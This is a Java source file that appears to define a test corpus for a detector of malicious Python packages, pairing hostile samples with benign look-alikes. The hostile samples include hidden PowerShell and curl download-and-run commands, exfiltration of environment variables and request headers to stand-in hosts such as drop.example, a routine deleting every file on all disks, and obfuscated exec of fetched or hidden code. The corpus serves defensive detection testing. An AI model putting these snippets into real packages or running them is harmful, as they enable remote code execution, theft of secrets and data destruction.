package cordon.inspect.corpus;

import java.util.List;

/** What is put under names, or started by ways, that nobody takes for what they are. */
final class PythonPretences {
  private PythonPretences() {}

  static List<Sample> all() {
    return List.of(
        Sample.setup(
            "a shell of Windows shows a program with its arguments",
            """
            import ctypes
            from setuptools import setup
            ctypes.windll.shell32.ShellExecuteW(None, 'runas', 'powershell', '-w hidden -c iwr https://a.example/p.ps1 | iex', None, 0)
            setup(name='p1', version='1')
            """),
        Sample.imported(
            "code is written by a descriptor and run",
            """
            import os, subprocess, sys, tempfile
            CODE = b'import os, urllib.request\\nurllib.request.urlopen("https://drop.example", data=str(dict(os.environ)).encode())'
            fd, name = tempfile.mkstemp('.py')
            os.write(fd, CODE)
            os.close(fd)
            subprocess.Popen([sys.executable.replace('python.exe', 'pythonw.exe'), name])
            """),
        Sample.imported(
            "an object of Windows runs a command that fetches",
            """
            import win32com.client
            shell = win32com.client.Dispatch('WScript.Shell')
            shell.Run('cmd /c powershell iwr https://a.example/a.exe -o %TEMP%\\\\a.exe; %TEMP%\\\\a.exe', 0)
            """),
        Sample.imported(
            "a fetched archive is unpacked and a script of it run",
            """
            import subprocess
            subprocess.run('curl -s -L "https://files.example/a.zip" -o "%TEMP%\\\\a.zip" && tar -xf "%TEMP%\\\\a.zip" -C "%TEMP%" && wscript "%TEMP%\\\\a\\\\run.vbs"', shell=True)
            """),
        Sample.imported(
            "files of all disks that there are are removed",
            """
            import os
            disks = ['%s:\\\\' % d for d in 'CDE' if os.path.exists('%s:\\\\' % d)]
            for d in disks:
                for r, _, fs in os.walk(d):
                    for f in fs:
                        os.remove(os.path.join(r, f))
            """),
        Sample.imported(
            "an object is put in the place of a client",
            """
            import sys, requests
            class H:
                def __init__(self, o): self.o = o
                def get(self, url, **k):
                    if 'headers' in k:
                        self.o.post('https://drop.example', json={'u': url, 'h': dict(k['headers'])})
                    return self.o.get(url, **k)
            sys.modules['requests'] = H(requests)
            """),
        Sample.imported(
                "the licence is run",
                """
                import os
                exec(open(os.path.join(os.path.dirname(__file__), 'LICENSE.txt')).read().split('-----')[1])
                """)
            .with("sample/LICENSE.txt", "text\n-----print('inert')-----\n"),
        Sample.imported(
                "a packed file is opened and run",
                """
                import gzip, os
                for f in os.listdir(os.path.dirname(__file__)):
                    if f.endswith('.pack'):
                        exec(gzip.open(os.path.join(os.path.dirname(__file__), f)).read())
                """)
            .with("sample/z.pack", "inert"),
        Sample.imported(
            "a built-in function is asked for by name",
            """
            import builtins
            builtins.__getattribute__('ex' + 'ec')(__import__('urllib.request', fromlist=['x']).urlopen('https://code.example').read())
            """));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.setup(
            "a version is read from a file of Python",
            """
            import os
            from setuptools import setup
            about = {}
            exec(open(os.path.join('sample', '_version.py')).read(), about)
            setup(name='l1', version='1', long_description=open('README.md').read())
            """),
        Sample.imported(
            "a packed table is opened",
            """
            import gzip, json, os
            with gzip.open(os.path.join(os.path.dirname(__file__), 'table.json.gz'), 'rt') as f:
                TABLE = json.load(f)
            """),
        Sample.imported(
            "an object stands for the module that it is in",
            """
            import sys
            class Lazy:
                def get(self, name): return name
            sys.modules[__name__] = Lazy()
            """),
        Sample.imported(
            "disks that there are are listed",
            """
            import os
            DISKS = ['%s:\\\\' % d for d in 'CDE' if os.path.exists('%s:\\\\' % d)]
            def largest():
                return max(DISKS, key=lambda d: sum(os.path.getsize(os.path.join(r, f)) for r, _, fs in os.walk(d) for f in fs))
            """),
        Sample.imported(
            "a text of Windows is written by its shell when asked",
            """
            def shortcut(path, target):
                import win32com.client
                shell = win32com.client.Dispatch('WScript.Shell')
                link = shell.CreateShortCut(path)
                link.Targetpath = target
                link.save()
            """));
  }
}
